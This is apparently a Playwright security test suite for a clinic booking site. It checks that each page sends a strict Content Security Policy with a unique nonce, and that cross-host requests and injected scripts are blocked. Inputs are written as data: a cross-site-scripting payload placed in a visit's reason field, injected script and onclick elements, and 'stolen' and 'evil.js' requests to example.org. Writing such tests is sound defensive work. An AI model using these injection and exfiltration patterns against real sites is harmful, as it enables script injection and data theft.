/** What a page may load and run: its own files, and nothing that somebody smuggled in. */

import type { Browser, Page } from '@playwright/test';

import { expect, follow, settled, test } from './support/test';

const PAGES = ['/', '/book', '/sign-in', '/visits', '/admin/users', '/no-such-page'];
const SMUGGLED = `<img src="x" onerror="window.smuggled = 'handler'"><script>window.smuggled = 'script'</script>`;

interface Watched extends Window {
  smuggled?: string;
  violations: string[];
}

function directivesOf(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}

/** A page whose breaches of the policy are counted instead of failing the test. */
async function openFreely(browser: Browser, baseURL: string | undefined): Promise<Page> {
  const page = await (await browser.newContext({ baseURL })).newPage();
  follow(page);
  await page.addInitScript(() => {
    const watched = window as unknown as Watched;
    watched.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      watched.violations.push(effectiveDirective);
    });
  });
  await page.goto('/');
  await settled(page);
  return page;
}

async function violationsOf(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as Watched).violations);
}

async function smuggledInto(page: Page): Promise<string | undefined> {
  return page.evaluate(() => (window as unknown as Watched).smuggled);
}

test('every page carries a strict policy, with a nonce of its own', async ({ request }) => {
  const nonces = new Set<string>();
  for (const path of PAGES) {
    const answer = await request.get(path, { headers: { Accept: 'text/html' } });
    const headers = answer.headers();
    const policy = directivesOf(headers['content-security-policy'] ?? '');
    expect(policy.get('default-src'), path).toEqual(["'none'"]);
    expect(policy.get('script-src'), path).toEqual(["'self'"]);
    expect(policy.get('connect-src'), path).toEqual(["'self'"]);
    expect(policy.get('base-uri'), path).toEqual(["'none'"]);
    expect(policy.get('frame-ancestors'), path).toEqual(["'none'"]);
    const sources = [...policy.values()].flat();
    expect(sources, path).not.toContainEqual(expect.stringMatching(/unsafe|https?:|\*/));
    const [nonce = ''] = sources.filter((source) => source.startsWith("'nonce-"));
    expect(nonce.length, path).toBeGreaterThan(20);
    nonces.add(nonce);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'same-origin',
    });
    expect(await answer.text(), path).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+=|\sstyle=/);
  }
  expect(nonces.size).toBe(PAGES.length);
});

test('scripts that were smuggled into a page do not run', async ({ browser, baseURL }) => {
  const page = await openFreely(browser, baseURL);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = "window.smuggled = 'element'";
    document.body.append(script);
  });
  await expect.poll(() => violationsOf(page)).toEqual(['script-src-elem']);
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<button id="bait" onclick="window.smuggled = 'handler'">Press</button>`,
    );
    document.getElementById('bait')?.click();
  });
  await expect.poll(() => violationsOf(page)).toContain('script-src-attr');
  await page.evaluate(() => {
    Reflect.apply(setTimeout, window, ["window.smuggled = 'words'"]);
  });
  await expect.poll(() => violationsOf(page)).toContain('script-src');
  expect(await smuggledInto(page)).toBeUndefined();
  await page.context().close();
});

test('nothing can be sent to another host, nor loaded from it', async ({ browser, baseURL }) => {
  const page = await openFreely(browser, baseURL);
  await page.evaluate(async () => {
    await fetch('https://example.org/?stolen', { mode: 'no-cors' }).catch(() => undefined);
    document.body.append(Object.assign(new Image(), { src: 'https://example.org/stolen.png' }));
    const script = Object.assign(document.createElement('script'), {
      src: 'https://example.org/evil.js',
    });
    document.head.append(script);
  });
  await expect
    .poll(async () => (await violationsOf(page)).toSorted())
    .toEqual(['connect-src', 'img-src', 'script-src-elem']);
  await page.context().close();
});

test('what people write is shown as they wrote it, and never run', async ({
  api,
  pageOf,
  pageOfAccount,
}) => {
  const doctor = await api.newDoctor();
  const { email } = await api.registerPatient();
  const slot = await api.changeableTime(doctor.id);
  const visit = await api.book(email, slot, { reason: SMUGGLED });
  const [patient, desk] = [await pageOfAccount(email), await pageOf('desk')];
  await patient.goto(`/visits/${visit.id}`);
  await desk.goto(`/board?place=${slot.location_id}&visit=${visit.id}`);
  for (const page of [patient, desk]) {
    await expect(page.getByText(SMUGGLED)).toBeVisible();
    expect(await smuggledInto(page)).toBeUndefined();
  }
});

test('pages ask no other host for anything', async ({ page, baseURL }) => {
  const origins = new Set<string>();
  page.on('request', (asked) => {
    if (asked.url().startsWith('http')) {
      origins.add(new URL(asked.url()).origin);
    }
  });
  for (const path of ['/', '/register']) {
    await page.goto(path);
    await settled(page);
  }
  expect([...origins]).toEqual([new URL(baseURL ?? '').origin]);
});
